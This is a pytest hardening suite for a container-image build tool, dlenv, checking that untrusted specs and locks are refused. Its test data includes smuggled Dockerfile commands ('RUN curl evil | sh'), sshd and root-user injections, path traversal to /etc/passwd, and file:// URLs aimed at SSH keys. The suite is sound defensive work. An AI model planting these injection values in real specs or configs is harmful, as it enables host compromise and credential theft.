"""A spec or lock from a cloned repository is untrusted input: what it may not do to the
host, the store or the rendered files, and the errors (never tracebacks) it gets instead.
Each test here names the hole it guards (issue: hardening)."""

from __future__ import annotations

import csv
import errno
import hashlib
import json
import os
import stat
import subprocess
import time
import tomllib
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace

import httpx
import pytest

from dlenv.cache import ContentCache, describe_transport_error, tls_context
from dlenv.cli import main
from dlenv.errors import (
    BuildError,
    FetchError,
    IntegrityError,
    LockError,
    RegistryError,
    SpecError,
    UsageError,
)
from dlenv.fsutil import inside, sweep, temp_prefix
from dlenv.image import lock_digest, plan_build
from dlenv.image.builder import NativeBuilder
from dlenv.image.debian import _post_install
from dlenv.image.dockerfile import render_dockerfile
from dlenv.image.portable import PortableBase
from dlenv.image.project import collect_project, credential_like
from dlenv.lint import lint_dockerfile
from dlenv.lock import LOCK_FILE, Lock, dumps, loads, read_lock
from dlenv.oci import Descriptor
from dlenv.oci.export import export_oci, save_docker_archive
from dlenv.oci.registry import Reference, RegistryClient
from dlenv.oci.store import OCIStore
from dlenv.resolve import resolve_target
from dlenv.resolve.locking import check_lock
from dlenv.resolve.python import IndexConfig, UvResolver, explain_uv_failure
from dlenv.run import Host, RunOptions, plan_run
from dlenv.spec import Spec, load_spec, parse_spec
from dlenv.workflows.build import build, ready_image
from dlenv.workflows.inputs import BuildOptions
from dlenv.workflows.project import open_project
from tests.conftest import EXAMPLES

HERE = Path(__file__).resolve().parent.parent
GIB = 1 << 30


def spec_problems(data: dict) -> str:
    with pytest.raises(SpecError) as info:
        parse_spec({"name": "x", **data})
    return str(info.value)


def example(name: str = "python-base") -> tuple[Spec, object]:
    spec = load_spec(EXAMPLES / name / "dlenv.toml")
    return spec, read_lock(HERE / "fixtures/locks" / f"{name}.lock")


# --- 1. host directories through workdir, and engine arguments from typed values ----------

@pytest.mark.parametrize("workdir", [
    "/workspace,source=/home/u/.ssh", "/workspace\nRUN curl x | sh", "/../../../../srv/x/sub",
    "/work/../etc", "/work//x", "/work/", "/work space", '/w"x', "relative", "/", "/etc",
    "/proc/self", "/usr/bin", "/data", "/workspace\n",
])
def test_workdir_must_be_a_plain_absolute_path_outside_system_dirs(workdir):
    assert "workdir" in spec_problems({"workdir": workdir})


@pytest.mark.parametrize("workdir", ["/workspace", "/app", "/srv/app", "/opt/my-proj_1",
                                     "/home/dlenv/work", "/usr/src/app"])
def test_ordinary_workdirs_are_accepted(workdir):
    assert parse_spec({"name": "x", "workdir": workdir}).workdir == workdir


def test_mount_options_are_csv_records_of_typed_fields():
    spec = parse_spec({"name": "x"})
    project = "/home/u/team,source=/home/u/.ssh"  # a real directory name may hold a comma
    plan = plan_run(spec, "sha256:abc", None, RunOptions(mode="run"), Host(
        project_dir=project, uid=1000, gid=1000, data_dir="/d", memory_bytes=24 * GIB))
    args = plan.args("docker")
    mounts = [args[i + 1] for i, a in enumerate(args) if a == "--mount"]
    fields = next(csv.reader([mounts[0]]))
    assert fields == ["type=bind", f"source={project}", "target=/workspace"]
    assert "--pids-limit" in args and args[args.index("--pids-limit") + 1] == "16384"


def test_a_host_path_with_a_line_break_is_refused_for_mounts():
    spec = parse_spec({"name": "x"})
    plan = plan_run(spec, "sha256:abc", None, RunOptions(mode="run"), Host(
        project_dir="/p/a\nb", uid=1000, gid=1000, data_dir="/d", memory_bytes=GIB))
    with pytest.raises(UsageError, match="control character"):
        plan.args("docker")


@pytest.mark.parametrize("argv", [
    ["--mount", "nonsense"], ["--mount", "/tmp:relative"], ["--mount", "/tmp:/etc"],
    ["--mount", "/nonexistent-dir-for-test:/data/x"], ["--publish", "70000"],
    ["--publish", "x:1"], ["--memory", "16g --privileged"], ["--cpus", "all"],
    ["--image", "bad image"], ["--pids-limit", "-1"],
])
def test_bad_run_arguments_exit_2_before_any_engine_is_asked(tmp_path, argv, capsys):
    (tmp_path / "dlenv.toml").write_text('name = "x"\n')
    assert main(["run", str(tmp_path), *argv, "--dry-run"]) == 2
    assert "error:" in capsys.readouterr().err


# --- 2. host paths through '..' and links already in the tree -----------------------------

def test_inside_resolves_links_as_the_container_would(tmp_path):
    root = tmp_path / "root"
    (root / "usr/lib").mkdir(parents=True)
    (root / "lib").symlink_to("usr/lib")
    (root / "etc").mkdir()
    (root / "cfg").symlink_to("/etc")  # absolute: the tree's /etc, not the host's
    assert inside(root, "lib/x.so") == root / "usr/lib/x.so"
    assert inside(root, "cfg/passwd") == root / "etc/passwd"
    assert inside(root, "/cfg") == root / "cfg"  # the last part is not followed
    assert inside(root, "cfg", follow_last=True) == root / "etc"
    (root / "loop").symlink_to("/loop")
    with pytest.raises(BuildError, match="too many"):
        inside(root, "loop/x")
    with pytest.raises(BuildError, match="leaves"):
        inside(root, "../outside")
    (root / "up").symlink_to("../../..")  # relative, climbing past the root
    with pytest.raises(BuildError, match="leaves"):
        inside(root, "up/x")


def test_a_workdir_leaving_the_tree_creates_nothing_on_the_host(tmp_path):
    root = tmp_path / "root"
    root.mkdir()
    user = parse_spec({"name": "x"}).user
    with pytest.raises(BuildError, match="leaves"):
        _post_install(root, user, "/../../escaped/sub")
    assert not (tmp_path / "escaped").exists() and not (tmp_path.parent / "escaped").exists()


# --- 3. the wrong image pushed ------------------------------------------------------------

def test_run_images_never_take_the_release_tag():
    spec, lock = example()
    assert plan_build(spec, lock).tag == "python-base:latest"
    assert plan_build(spec, lock, for_run=True).tag == "python-base:latest-run"
    assert plan_build(spec, lock, profile="train", for_run=True).tag == "python-base:train-run"


def test_an_image_built_from_another_lock_is_built_again_never_reused(tmp_path, monkeypatch):
    spec, lock = example()
    project = tmp_path / "p"
    project.mkdir()
    (project / "dlenv.toml").write_text((EXAMPLES / "python-base/dlenv.toml").read_text())
    (project / LOCK_FILE).write_text(dumps(lock))
    store = OCIStore(tmp_path / "cache/store")
    tag = plan_build(spec, lock, location=str(project.resolve())).tag

    wanted = plan_build(spec, lock, location=str(project.resolve())).config.labels

    def stored(the_lock: Lock, **other: str) -> Descriptor:
        labels = {**wanted, "dev.dlenv.lock.digest": lock_digest(the_lock), **other}
        cfg = store.put_bytes(json.dumps({"config": {"Labels": labels}}).encode(), "c")
        return store.put_bytes(json.dumps({"config": cfg.to_json(), "layers": []}).encode(),
                               "m")

    current = stored(lock)
    built: list[str] = []

    class Builder:  # stands in for the native build: it records what it was asked to build
        store = OCIStore(tmp_path / "cache/store")

        def build(self, plan, ready=None, pack=True):
            built.append(plan.tag)
            store.tag(plan.tag, current)
            return SimpleNamespace(manifest=current)

    monkeypatch.setattr("dlenv.image.builder.builder_for", lambda *a, **k: Builder())
    store.tag(tag, stored(replace(lock, source_date_epoch=lock.source_date_epoch - 1)))
    ready = ready_image(open_project(project), cache_dir=str(tmp_path / "cache"))
    assert built == [tag] and ready.built and ready.manifest == current
    again = ready_image(open_project(project), cache_dir=str(tmp_path / "cache"))
    assert built == [tag] and not again.built  # current now: reused as it is
    # any of the plan's own labels that differs (as the hash of a newer dlenv's launcher or
    # model server would) makes it stale too
    store.tag(tag, stored(lock, **{"dev.dlenv.python": "3.0"}))
    ready_image(open_project(project), cache_dir=str(tmp_path / "cache"))
    assert built == [tag, tag]


# --- 4. store blobs are not trusted for existing ------------------------------------------

def _blob(store: OCIStore, data: bytes, diff_id: str | None = None) -> Descriptor:
    with store.writer() as f:
        f.write(data)
        digest = "sha256:" + hashlib.sha256(data).hexdigest()
        store.commit(f, digest, diff_id)
    return Descriptor(media_type="application/octet-stream", digest=digest, size=len(data))


def _flip(path: Path, keep_mtime: bool) -> None:
    st = path.stat()
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 0xFF
    path.chmod(0o644)
    path.write_bytes(bytes(data))
    if keep_mtime:
        os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))


def test_a_flipped_byte_is_caught_by_the_stamp_and_the_blob_removed(tmp_path):
    store = OCIStore(tmp_path)
    desc = _blob(store, b"layer bytes" * 1000, "sha256:" + "1" * 64)
    assert OCIStore(tmp_path).check(desc.digest, desc.size, "sha256:" + "1" * 64)
    _flip(store.blob_path(desc.digest), keep_mtime=False)
    fresh = OCIStore(tmp_path)  # another process: nothing hashed in memory
    assert not fresh.check(desc.digest, desc.size) and not fresh.has(desc.digest)


def test_a_truncated_blob_or_a_record_naming_another_blob_is_not_reused(tmp_path):
    store = OCIStore(tmp_path)
    desc = _blob(store, b"x" * 4096, "sha256:" + "1" * 64)
    assert not store.check(desc.digest, desc.size, "sha256:" + "2" * 64)  # another layer's
    assert store.has(desc.digest)  # the blob itself is fine and stays
    with store.blob_path(desc.digest).open("r+b") as f:
        f.truncate(100)
    assert not store.check(desc.digest, desc.size) and not store.has(desc.digest)


def test_exports_hash_every_blob_and_never_link_a_damaged_one(tmp_path):
    store = OCIStore(tmp_path / "store")
    layer = _blob(store, b"layer" * 5000)
    cfg = store.put_bytes(b'{"config": {}}', "c")
    manifest = store.put_bytes(json.dumps({"config": cfg.to_json(),
                                           "layers": [layer.to_json()]}).encode(), "m")
    _flip(store.blob_path(layer.digest), keep_mtime=True)  # the stamp still matches
    store = OCIStore(tmp_path / "store")
    with pytest.raises(IntegrityError, match="damaged"):
        export_oci(store, manifest, tmp_path / "out", "x:1")
    assert not (tmp_path / "out/blobs/sha256" / layer.hex).exists()
    with pytest.raises(IntegrityError):
        save_docker_archive(store, manifest, tmp_path / "image.tar", "x:1")
    assert not (tmp_path / "image.tar").exists()


def test_damaged_layer_records_and_index_are_rebuilt_not_fatal(tmp_path):
    builder = NativeBuilder(OCIStore(tmp_path / "store"), tmp_path)
    (builder.records.directory / "k.json").write_text('{"descriptor": {"digest"')
    assert builder.records.get("k") is None
    assert not (builder.records.directory / "k.json").exists()
    store = builder.store
    cfg = store.put_bytes(b"{}", "c")
    manifest = store.put_bytes(json.dumps({"config": cfg.to_json(), "layers": []}).encode(), "m")
    store.tag("x:1", manifest)
    (tmp_path / "store/index.json").write_text('{"manifests": [')
    assert store.tags() == {} and store.resolve("x:1") is None
    store.tag("x:1", manifest)
    assert store.tags() == {"x:1": manifest.digest}


def test_what_killed_builds_left_is_swept_and_live_work_is_kept(tmp_path):
    dead = subprocess.Popen(["true"])
    dead.wait()
    gone = tmp_path / f".dlenv-tmp-{dead.pid}-layer-abc"
    (gone / "root/usr").mkdir(parents=True)
    live = tmp_path / f"{temp_prefix('layer')}xyz"
    live.mkdir()
    young = tmp_path / f".dlenv-tmp-{dead.pid}-blob-new.part"
    young.write_bytes(b"x")
    for path in (gone, live):
        os.utime(path, (1e9, 1e9))
    assert list(sweep(tmp_path)) == [gone.name]
    assert live.exists() and young.exists() and not gone.exists()


# --- 5. secrets into the image -------------------------------------------------------------

def test_credentials_stay_out_of_the_project_layer_unless_re_included(tmp_path):
    for name in ("train.py", ".env", ".env.example", "id_rsa", "id_rsa.pub", "key.pem",
                 ".ssh/config", ".aws/credentials", ".netrc", ".pypirc", "conf/.env.prod",
                 "data/raw.csv", "logs/run.txt", "cert/server.key"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text("x")
    (tmp_path / ".dockerignore").write_text("data/\n")
    (tmp_path / ".dlenvignore").write_text("logs/\n!key.pem\n")
    paths = [f.path for f in collect_project(tmp_path)]
    assert paths == [".env.example", "id_rsa.pub", "key.pem", "train.py"]
    assert credential_like(collect_project(tmp_path)) == ["key.pem"]


# --- 6. Dockerfile and config injection ---------------------------------------------------

@pytest.mark.parametrize("value", ["a\nRUN curl evil | sh", "a\rb", "x\x1bY"])
def test_env_values_with_line_breaks_are_refused(value):
    assert "env.TOKEN" in spec_problems({"env": {"TOKEN": value}})
    assert "profiles.dev.env.K" in spec_problems({"profiles": {"dev": {"env": {"K": value}}}})


SLIM = PortableBase(image="debian:bookworm-slim@sha256:" + "5" * 64, pip="23.0.1+dfsg-1")


@pytest.mark.parametrize("portable", [None, SLIM], ids=["exact", "portable"])
def test_the_renderer_refuses_a_value_that_would_end_its_line(portable):
    spec, lock = example()
    bad = replace(spec, env=(("A", "x\nUSER root"),))
    with pytest.raises(BuildError, match="Dockerfile"):
        render_dockerfile(bad, replace(lock, spec_digest=bad.digest()), "sha256:x",
                          portable=portable)


@pytest.mark.parametrize("portable", [
    replace(SLIM, image="debian:bookworm-slim"),  # not pinned
    replace(SLIM, image="debian:bookworm-slim\nRUN curl x | sh\n@sha256:" + "5" * 64),
    replace(SLIM, pip="23.0; curl x | sh"),
])
def test_a_portable_base_that_is_not_a_pinned_reference_and_a_version_is_refused(portable):
    spec, lock = example()
    with pytest.raises(BuildError):
        render_dockerfile(spec, lock, "sha256:x", portable=portable)


def test_a_base_option_that_is_not_a_reference_is_refused_before_any_network(tmp_path):
    from dlenv.workflows.eject import portable_base
    from dlenv.workflows.project import open_project

    _, lock = example()
    (tmp_path / "dlenv.toml").write_text('name = "x"\n')
    with pytest.raises(UsageError, match="--base"):
        portable_base(open_project(tmp_path), lock, "debian:bookworm\nRUN id")


def test_lint_flags_a_rendered_dockerfile_whose_instructions_were_changed():
    spec, lock = example()
    text = render_dockerfile(spec, lock, lock_digest(lock)).dockerfile
    assert not [f for f in lint_dockerfile(text) if f.rule == "ML018"]
    injected = text.replace("WORKDIR /workspace\n", "WORKDIR /workspace\nRUN curl x | sh\n", 1)
    found = [f for f in lint_dockerfile(injected) if f.rule == "ML018"]
    assert len(found) == 1 and found[0].severity == "error"


def test_sshd_config_refuses_a_value_with_a_line_break():
    view = replace(parse_spec({"name": "x", "profiles": {"dev": {"ssh": True}}}).run_view(),
                   env=(("X", "1\nPermitRootLogin yes"),))
    with pytest.raises(SpecError, match="line break"):
        plan_run(view, "img", "dev", RunOptions(mode="ssh", authorized_key="ssh-ed25519 AAA"),
                 Host(project_dir="/p", uid=1000, gid=1000, data_dir="/d", memory_bytes=GIB))


# --- 7. the lock is checked, field by field and against the spec --------------------------

def _tampered(edit) -> str:
    _, lock = example()
    doc = tomllib.loads(dumps(lock))
    edit(doc)
    import tomli_w

    return tomli_w.dumps(doc)


@pytest.mark.parametrize(("edit", "where"), [
    (lambda d: d["target"].update(python="3.11/../../x"), "target.python"),
    (lambda d: d["debs"][0].update(filename="../../../etc/passwd"), "debs[0].filename"),
    (lambda d: d["debs"][0].update(filename="pool/main/../../x.deb"), "debs[0].filename"),
    (lambda d: d["wheels"][0].update(url="file:///home/u/.ssh/id_rsa"), "wheels[0].url"),
    (lambda d: d["wheels"][0].update(filename="../x-1-py3-none-any.whl"), "wheels[0].filename"),
    (lambda d: d["wheels"].append(dict(d["wheels"][0])), "listed twice"),
    (lambda d: d.update(source_date_epoch=10**15), "source_date_epoch"),
    (lambda d: d["base"].update(kind="image"), "base"),
    (lambda d: d["wheels"][0].update(sha256="zz"), "sha256"),
    (lambda d: d["wheels"][0].update(profiles=["prod"]), "profiles"),
    (lambda d: d.update(spec_digest="sha256:old"), "spec_digest"),
])
def test_a_tampered_lock_is_refused_naming_the_field(edit, where):
    with pytest.raises(LockError) as info:
        loads(_tampered(edit))
    assert where in str(info.value)


def test_a_lock_that_disagrees_with_its_spec_is_refused():
    spec, lock = example()
    check_lock(spec, lock)  # the real one passes
    for bad in (replace(lock, target=replace(lock.target, python="3.12")),
                replace(lock, base=replace(lock.base, suite="trixie")),
                replace(lock, wheels=tuple(w for w in lock.wheels if w.name != "pip"))):
        with pytest.raises(LockError, match="does not match"):
            check_lock(spec, bad)


def test_a_mismatched_lock_exits_2_and_is_not_rewritten(tmp_path, capsys):
    _, lock = example()
    (tmp_path / "dlenv.toml").write_text((EXAMPLES / "python-base/dlenv.toml").read_text())
    text = dumps(replace(lock, target=replace(lock.target, python="3.12")))
    (tmp_path / LOCK_FILE).write_text(text)
    with pytest.raises(LockError, match="does not match") as refused:
        build(open_project(tmp_path), BuildOptions(cache_dir=str(tmp_path / "c")))
    assert refused.value.exit_code == 2
    assert (tmp_path / LOCK_FILE).read_text() == text


# --- 8. shared temp paths, and the resolver's time --------------------------------------

def _fake_uv(tmp_path: Path, body: str) -> str:
    script = tmp_path / "uv"
    script.write_text(f"#!/bin/sh\n{body}\n")
    script.chmod(0o755)
    return str(script)


def test_uv_cache_is_private_under_dlenv_cache(tmp_path):
    seen = tmp_path / "seen"
    uv = _fake_uv(tmp_path, f'echo "$UV_CACHE_DIR" > {seen}; exit 1')
    target = resolve_target(parse_spec({"name": "x", "python": "3.11"}))
    resolver = UvResolver(uv=uv, environ={}, cache_dir=tmp_path / "cache/uv")
    with pytest.raises(LockError):
        resolver.compile(["six"], target, IndexConfig(url=None, extra_urls=(), ca_bundle=None,
                                                      allow_sdist=False))
    assert seen.read_text().strip() == str(tmp_path / "cache/uv")
    assert stat.S_IMODE((tmp_path / "cache/uv").stat().st_mode) == 0o700


def test_a_stuck_resolver_is_stopped_with_a_network_error(tmp_path):
    uv = _fake_uv(tmp_path, "exec sleep 30")
    target = resolve_target(parse_spec({"name": "x", "python": "3.11"}))
    resolver = UvResolver(uv=uv, environ={}, cache_dir=tmp_path / "uvcache", timeout=0.5)
    started = time.monotonic()
    with pytest.raises(FetchError, match="did not finish") as info:
        resolver.compile(["six"], target, IndexConfig(url=None, extra_urls=(), ca_bundle=None,
                                                      allow_sdist=False))
    assert info.value.exit_code == 3 and time.monotonic() - started < 20


def test_resolver_network_failures_exit_3_and_conflicts_exit_2():
    target = resolve_target(parse_spec({"name": "x", "python": "3.11"}))
    net = explain_uv_failure("error: Failed to fetch: `https://idx/simple/six/`\n"
                             "  Caused by: error sending request: dns error", target)
    assert isinstance(net, FetchError) and net.exit_code == 3
    conflict = explain_uv_failure("× No solution found when resolving dependencies", target)
    assert conflict.exit_code == 2


# --- no traceback, ever, for bad input or a bad environment ----------------------------

@pytest.mark.parametrize(("name", "content"), [
    ("dlenv.toml", b'name = "x"\nframework = "\xff\xfe"\n'),
    ("dlenv.toml", b"a = " + b"[" * 5000 + b"]" * 5000 + b"\n"),
    ("pyproject.toml", b"[tool]\ndlenv = 1\n"),
    ("dlenv.toml", b'name = "x"\nframework = "pytorch==="\n'),
    ("dlenv.toml", b'name = "x"\nframework = "tensorflow===abc"\n'),
    ("dlenv.toml", b'name = "x"\npackages = ["' + b"a" * 1_000_000 + b'"]\n'),
    ("dlenv.toml", b'name = "x"\n[user]\nname = "root"\n'),
])
def test_bad_specs_get_one_located_error_and_exit_2(tmp_path, capsys, name, content):
    (tmp_path / name).write_bytes(content)
    started = time.monotonic()
    assert main(["resolve", str(tmp_path)]) == 2
    message = capsys.readouterr().err
    assert "error:" in message and str(tmp_path) in message
    assert len(message) < 2000 and time.monotonic() - started < 10


def test_post_releases_and_every_operator_parse():
    for framework in ("tensorflow==2.15.0.post1", "jax~=0.4", "torch>=2.1,<2.4",
                      "tensorflow!=2.15.0", "tensorflow==2.15.*"):
        assert parse_spec({"name": "x", "framework": framework}).framework is not None


@pytest.mark.parametrize("content", [b"\x00\xff binary", b"version = 2\n[target\n",
                                     b"a = " + b"[" * 5000 + b"]" * 5000])
def test_bad_lock_files_exit_2(tmp_path, capsys, content):
    (tmp_path / "dlenv.toml").write_text((EXAMPLES / "python-base/dlenv.toml").read_text())
    (tmp_path / LOCK_FILE).write_bytes(content)
    assert main(["lock", str(tmp_path), "--check"]) == 2
    assert "error:" in capsys.readouterr().err


def test_a_missing_ca_bundle_is_a_usage_error():
    with pytest.raises(UsageError, match="cannot be read"):
        tls_context("/nonexistent/ca.pem")


def test_outputs_into_impossible_places_exit_2(tmp_path):
    store = OCIStore(tmp_path / "store")
    cfg = store.put_bytes(b"{}", "c")
    manifest = store.put_bytes(json.dumps({"config": cfg.to_json(), "layers": []}).encode(), "m")
    (tmp_path / "file").write_text("x")
    with pytest.raises(UsageError, match="in the way"):
        export_oci(store, manifest, tmp_path / "file/oci", "x:1")
    with pytest.raises(UsageError, match="does not exist"):
        save_docker_archive(store, manifest, tmp_path / "missing/image.tar", "x:1")


@pytest.mark.parametrize("command", [["pull", "127.0.0.1:9/x:1"], ["lock", "{project}"]])
def test_a_cache_under_a_file_exits_2(tmp_path, capsys, command):
    (tmp_path / "file").write_text("x")
    (tmp_path / "dlenv.toml").write_text('name = "x"\n')
    argv = [a.format(project=tmp_path) for a in command]
    assert main([*argv, "--cache-dir", str(tmp_path / "file/cache")]) == 2
    assert "under a file" in capsys.readouterr().err


def test_a_full_disk_is_one_line_exit_3_and_the_old_lock_is_intact(tmp_path, capsys,
                                                                    monkeypatch):

    _, lock = example()
    (tmp_path / "dlenv.toml").write_text((EXAMPLES / "python-base/dlenv.toml").read_text())
    (tmp_path / LOCK_FILE).write_text("previous lock\n")

    def full(*_a, **_k):
        raise OSError(errno.ENOSPC, "No space left on device", str(tmp_path / "x.part"))

    monkeypatch.setattr("dlenv.resolve.locking.lock_project", lambda *a, **k: lock)
    monkeypatch.setattr("dlenv.fsutil.os.fsync", full)
    assert main(["lock", str(tmp_path)]) == 3
    err = capsys.readouterr().err
    assert "disk is full" in err and "Traceback" not in err
    assert (tmp_path / LOCK_FILE).read_text() == "previous lock\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == [LOCK_FILE, "dlenv.toml"]


def test_a_registry_manifest_that_is_not_json_is_a_registry_error():
    transport = httpx.MockTransport(lambda r: httpx.Response(200, content=b"\xff\xfe\x00"))
    client = RegistryClient(transport=transport, sleep=lambda s: None)
    with pytest.raises(RegistryError, match="not JSON"):
        client.manifest(Reference.parse("127.0.0.1:5000/x:1"))


def test_blob_pulls_retry_server_errors(tmp_path):
    payload = b"blob"
    digest = "sha256:" + hashlib.sha256(payload).hexdigest()
    failures = [503, 500]

    def handler(request: httpx.Request) -> httpx.Response:
        return httpx.Response(failures.pop(0)) if failures else httpx.Response(200,
                                                                                content=payload)
    client = RegistryClient(transport=httpx.MockTransport(handler), sleep=lambda s: None)
    store = OCIStore(tmp_path)
    client.blob_to_store(Reference.parse("127.0.0.1:5000/x:1"), digest, store)
    assert store.blob_path(digest).read_bytes() == payload and not failures


def test_timeouts_say_which_server_was_slow():
    request = httpx.Request("GET", "https://mirror.test/x")
    assert "mirror.test for 30 s" in describe_transport_error(
        httpx.ReadTimeout("", request=request))
    assert "within 10 s" in describe_transport_error(httpx.ConnectTimeout("", request=request))


def test_file_urls_fail_at_once_without_retries(tmp_path):
    slept: list[float] = []
    with httpx.Client() as client, pytest.raises(FetchError, match="http"):
        ContentCache(tmp_path).fetch(client, "file:///etc/passwd", "0" * 64, sleep=slept.append)
    assert slept == []



def test_a_deb_that_is_not_the_package_the_lock_names_is_refused(tmp_path):
    from dlenv.image.debian import materialize_base
    from dlenv.lock import LockedDeb

    tree = tmp_path / "pkg"
    (tree / "DEBIAN").mkdir(parents=True)
    (tree / "DEBIAN/control").write_text("Package: other\nVersion: 9.9\nArchitecture: all\n"
                                         "Maintainer: t <t@example.org>\nDescription: t\n")
    deb = tmp_path / "other.deb"
    subprocess.run(["dpkg-deb", "--build", "--root-owner-group", str(tree), str(deb)],
                   check=True, capture_output=True)
    locked = LockedDeb(name="python3.11", version="3.11.2-6", architecture="amd64",
                       filename="pool/main/p/python3.11/python3.11_3.11.2-6_amd64.deb",
                       sha256="0" * 64, size=1)
    root = tmp_path / "root"
    root.mkdir()
    with pytest.raises(BuildError, match=r"lock names it python3\.11"):
        materialize_base({"python3.11": deb}, [locked], root, parse_spec({"name": "x"}).user,
                         "/workspace")


def test_a_spec_naming_a_missing_ca_bundle_exits_2_before_resolving(tmp_path, capsys):
    (tmp_path / "dlenv.toml").write_text('name = "x"\n[index]\nca_bundle = "/nonexistent.pem"\n')
    assert main(["lock", str(tmp_path), "--cache-dir", str(tmp_path / "c")]) == 2
    assert "/nonexistent.pem cannot be read" in capsys.readouterr().err.replace("'", "")


def test_a_spec_on_an_image_base_is_sent_to_the_exact_mode():
    from dlenv.lock import LockedBase

    spec, lock = example()
    on_image = replace(lock, base=LockedBase(kind="image", ref="nvidia/cuda:12.2.2-runtime",
                                             digest="sha256:" + "6" * 64))
    with pytest.raises(BuildError, match="--mode exact"):
        render_dockerfile(spec, on_image, "sha256:x", portable=SLIM)
